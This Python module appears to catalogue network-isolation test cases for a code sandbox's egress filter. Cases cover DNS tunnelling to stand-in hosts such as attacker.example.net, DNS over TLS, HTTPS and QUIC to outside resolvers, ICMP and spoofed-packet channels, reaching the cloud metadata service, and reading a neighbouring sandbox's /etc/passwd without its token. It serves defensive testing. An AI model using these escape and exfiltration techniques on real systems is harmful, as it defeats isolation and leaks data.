"""Attacks by DNS, by other packets, on the neighbourhood, and by changes from inside."""

from __future__ import annotations

from attacks.attack import (
    ADDRESS,
    OFF,
    OPEN,
    SITE,
    SITE_ADDRESS,
    TRAPS,
    URL,
    Attack,
    Group,
    Policy,
    Verdict,
)
from attacks.attack import NAMES as NAMES_POLICY
from internet import ATTACKER, UPSTREAM_DNS

_REFUSED, _PASSES = Verdict.REFUSED, Verdict.PASSES
_RESOLVER = "8.8.8.8"
_SECRET = "c2VjcmV0.tunnel.example.net"
_V6 = "2001:4860:4860::8888"


def _dns(title: str, name: str = _SECRET, theirs: Verdict = _PASSES, **how: object) -> Attack:
    return Attack(title, "names.query", {"name": name, **how}, theirs=theirs)


DNS = Group(
    "DNS",
    (
        _dns("a name that is not allowed", "attacker.example.net"),
        _dns("data in the labels of a name"),
        _dns("the same over TCP", transport="tcp"),
        *(_dns(f"a tunnel by {kind} records", kind=kind) for kind in ("TXT", "NULL", "ANY")),
        _dns("a zone transfer", TRAPS, kind="AXFR", transport="tcp"),
        _dns("TXT of an allowed name", f"public.{TRAPS}", kind="TXT"),
        _dns("the keys for encrypted ClientHello (HTTPS records)", SITE, kind="HTTPS"),
        _dns("data in the letters' case of an allowed name", "aPI.exAmplE.com"),
        _dns("data in an EDNS option", SITE, option="stolen"),
        _dns("data in a second question", SITE, also=_SECRET),
        _dns("data behind the message", SITE, trailer="stolen"),
        Attack(
            "data in the labels below an allowed wildcard",
            "names.query",
            {"name": f"c2VjcmV0.{TRAPS}", "kind": "A"},
            ours=_PASSES,
            theirs=_PASSES,
            note="whoever owns the wildcard's domain hears it",
        ),
        _dns("another resolver", server="1.1.1.1", theirs=_REFUSED),
        _dns("another resolver over TCP", server="1.1.1.1", transport="tcp", theirs=_REFUSED),
        _dns("the node's own resolver", SITE, server=UPSTREAM_DNS, option="x", theirs=_REFUSED),
        Attack(
            "another resolver in `/etc/resolv.conf`",
            "names.resolv_conf",
            {"server": "1.1.1.1", "name": _SECRET},
        ),
        Attack(
            "DNS over TLS to 8.8.8.8",
            "packets.tcp",
            {"address": _RESOLVER, "port": 853},
            theirs=_PASSES,
        ),
        Attack("DNS over TLS to 1.1.1.1", "packets.tcp", {"address": "1.1.1.1", "port": 853}),
        Attack(
            "DNS over HTTPS to 8.8.8.8",
            "names.over_https",
            {"server": _RESOLVER, "name": None},
            theirs=_PASSES,
        ),
        Attack(
            "DNS over HTTPS to dns.google",
            "names.over_https",
            {"server": _RESOLVER, "name": "dns.google"},
            theirs=_PASSES,
        ),
        Attack(
            "DNS over HTTPS to 1.1.1.1",
            "names.over_https",
            {"server": "1.1.1.1", "name": "one.one.one.one"},
        ),
        Attack(
            "DNS over QUIC to 8.8.8.8",
            "packets.udp",
            {"address": _RESOLVER, "port": 853},
            theirs=_PASSES,
        ),
        Attack("multicast DNS", "names.query", {"name": _SECRET, "server": "224.0.0.251"}),
        Attack(
            "internet off: data in the labels of a name",
            "names.query",
            {"name": _SECRET},
            policy=OFF,
        ),
        Attack(
            "addresses only: data in the labels of a name",
            "names.query",
            {"name": _SECRET},
            policy=ADDRESS,
        ),
    ),
)


def _packet(
    title: str,
    program: str,
    policy: Policy = NAMES_POLICY,
    theirs: Verdict | None = _REFUSED,
    shown: bool = True,
    note: str = "",
    **arguments: object,
) -> Attack:
    return Attack(
        title, f"packets.{program}", arguments, policy, theirs=theirs, shown=shown, note=note
    )


PORTS = Group(
    "Other ports and protocols",
    (
        *(
            _packet(f"TCP to port {port} of the attacker", "tcp", address=ATTACKER, port=port)
            for port in (22, 25, 8080)
        ),
        _packet("TCP to port 22 of an allowed name", "tcp", address=SITE_ADDRESS, port=22),
        _packet("TCP to port 8080 of 8.8.8.8", "tcp", theirs=_PASSES, address=_RESOLVER, port=8080),
        _packet("UDP", "udp", address=ATTACKER, port=9999),
        _packet("QUIC to the attacker", "udp", address=ATTACKER, port=443, size=1200),
        _packet("QUIC to an allowed name", "udp", address=SITE_ADDRESS, port=443, size=1200),
        _packet("UDP to port 443 of 8.8.8.8", "udp", theirs=_PASSES, address=_RESOLVER, port=443),
        _packet("ICMP tunnel to the attacker", "ping", address=ATTACKER),
        _packet("ICMP tunnel to an allowed name", "ping", address=SITE_ADDRESS),
        _packet("ICMP tunnel to 8.8.8.8", "ping", theirs=_PASSES, address=_RESOLVER),
        _packet("Teredo", "udp", address=ATTACKER, port=3544, size=60),
    ),
)

PACKETS = Group(
    "Packets",
    (
        _packet(
            "spoofed source, with no restriction at all",
            "spoofed",
            OPEN,
            None,
            source="192.0.2.77",
            address=ATTACKER,
        ),
        _packet(
            "spoofed source: that of another sandbox",
            "spoofed",
            OPEN,
            None,
            source="{neighbour}",
            address=ATTACKER,
        ),
        _packet("spoofed source", "spoofed", theirs=None, source="192.0.2.77", address=ATTACKER),
        _packet("a datagram in IP fragments", "udp", address=ATTACKER, port=9999, size=4000),
        _packet("IP fragments that hide the ports", "fragments", address=ATTACKER),
        _packet(
            "loose source route by an allowed address",
            "options",
            ADDRESS,
            address=ATTACKER,
            port=9999,
            option="8307045db8d82800",
        ),
        _packet(
            "record route to an allowed address",
            "options",
            ADDRESS,
            _PASSES,
            address=SITE_ADDRESS,
            port=9999,
            option="070b04" + "00" * 9,
        ),
        *(
            _packet(
                f"{name} (protocol {number})", "raw_protocol", address=ATTACKER, protocol=number
            )
            for name, number in (("6in4", 41), ("IP in IP", 4), ("GRE", 47), ("SCTP", 132))
        ),
        _packet("UDP-Lite, without raw sockets", "udplite", address=ATTACKER),
        _packet("SCTP, without raw sockets", "sctp", address=ATTACKER, shown=False),
        _packet("limited broadcast", "broadcast", OPEN, address="255.255.255.255"),
        _packet("multicast to the link", "broadcast", OPEN, address="224.0.0.1"),
        _packet("multicast further on", "broadcast", OPEN, address="239.1.2.3"),
    ),
)

IPV6 = Group(
    "IPv6",
    (
        _packet("TCP", "tcp6", OPEN, address=_V6, port=8080),
        _packet("UDP", "udp6", OPEN, address=_V6, port=9999),
        _packet("IPv4-mapped private address", "tcp6", OPEN, address="::ffff:10.66.0.3", port=8080),
        _packet("NAT64 address", "tcp6", OPEN, address="64:ff9b::a42:3", port=8080),
        _packet("link-local multicast", "udp6", OPEN, address="ff02::1", port=9999),
        _packet("bare frames, router and neighbour advertisements", "frames6", OPEN, address=_V6),
    ),
)

NEIGHBOURS = Group(
    "Neighbours and the machine",
    (
        _packet("another sandbox: TCP", "tcp", OPEN, address="{neighbour}", port=7000),
        _packet("another sandbox: UDP", "udp", OPEN, address="{neighbour}", port=7000),
        _packet(
            "another sandbox's envd",
            "scan",
            OPEN,
            address="{neighbour}",
            ports=[49983],
            shown=False,
        ),
        _packet("another sandbox: ping", "ping", OPEN, address="{neighbour}", shown=False),
        _packet(
            "a service of the machine at its public address: TCP",
            "tcp",
            OPEN,
            _PASSES,
            address="{own}",
            port=7000,
        ),
        _packet(
            "a service of the machine at its public address: UDP",
            "udp",
            OPEN,
            _PASSES,
            address="{own}",
            port=7000,
        ),
        _packet(
            "a service of the machine at its gateway address",
            "tcp",
            OPEN,
            address="{gateway}",
            port=7000,
            shown=False,
        ),
        _packet(
            "the node's ports: egress gateway, HAProxy, API",
            "scan",
            OPEN,
            address="{node}",
            ports=[22, 53, 80, 111, 2019, 5000, 8000, 8080, 8443, 15001, 49983],
            theirs=None,
            shown=False,
        ),
        _packet(
            "the gateway's own ports",
            "scan",
            OPEN,
            address="{egress}",
            ports=[53, 80, 443, 15001],
            theirs=None,
            shown=False,
        ),
        Attack(
            "the node's API through the address of sandbox URLs",
            "local.url",
            {"address": "{node}", "name": "{api}", "host": "{api}", "path": "/health"},
            policy=OPEN,
            theirs=None,
            shown=False,
        ),
        Attack(
            "the API behind the name of a sandbox URL",
            "local.url",
            {"address": "{node}", "name": "{url}", "host": "{api}", "path": "/health"},
            policy=OPEN,
            theirs=None,
            shown=False,
        ),
        Attack(
            "another sandbox's files by its URL, without its token",
            "local.url",
            {
                "address": "{node}",
                "name": "{envd_url}",
                "host": "{envd_url}",
                "path": "/files?path=/etc/passwd&username=root",
            },
            policy=OPEN,
            theirs=None,
            shown=False,
        ),
        Attack(
            "sandbox URLs while only names are allowed",
            "local.url",
            {"address": "{node}", "name": "{url}", "host": "{url}", "path": "/"},
            theirs=None,
            shown=False,
        ),
        Attack(
            "another sandbox's URL as Host behind the name of an allowed one",
            "local.url",
            {"address": "{node}", "name": "{url}", "host": "{other_url}", "path": "/"},
            policy=URL,
            theirs=None,
            shown=False,
        ),
        Attack(
            "another sandbox by routing headers behind the name of an allowed one",
            "local.url",
            {
                "address": "{node}",
                "name": "{url}",
                "host": "sandbox.{domain}",
                "path": "/",
                "headers": ["E2b-Sandbox-Id: {other_id}", "E2b-Sandbox-Port: 7000"],
            },
            policy=URL,
            theirs=None,
            shown=False,
        ),
        _packet("private address", "tcp", OPEN, address="10.66.0.3", port=8080),
        _packet("private address: UDP", "udp", OPEN, address="192.168.7.7", port=9999),
        _packet("private address: ping", "ping", OPEN, address="172.16.4.4"),
        _packet("the cloud's metadata service", "tcp", OPEN, address="169.254.169.254", port=80),
        _packet("198.18.0.0/15", "udp", OPEN, _PASSES, address="198.19.255.77", port=9999),
        _packet("192.0.0.0/24", "udp", OPEN, _PASSES, address="192.0.0.9", port=9999),
    ),
)


def _local(title: str, program: str, **arguments: object) -> Attack:
    return Attack(title, f"local.{program}", arguments)


INSIDE = Group(
    "Changes from inside",
    (
        _local("another address", "new_address", address="192.0.2.77", victim=ATTACKER),
        _local("another sandbox's address", "new_address", address="{neighbour}", victim=ATTACKER),
        _local("other routes", "new_route", victim=ATTACKER, gateway="{gateway}"),
        _local("other links, another hardware address", "new_links", victim=ATTACKER),
        _local("a namespace of one's own", "new_namespace", victim=ATTACKER),
        Attack(
            "ARP in another's name",
            "packets.arp",
            {"claimed": "{neighbour}", "asked": "{gateway}"},
            policy=OPEN,
            shown=False,
        ),
    ),
)

GROUPS = (DNS, PORTS, PACKETS, IPV6, NEIGHBOURS, INSIDE)
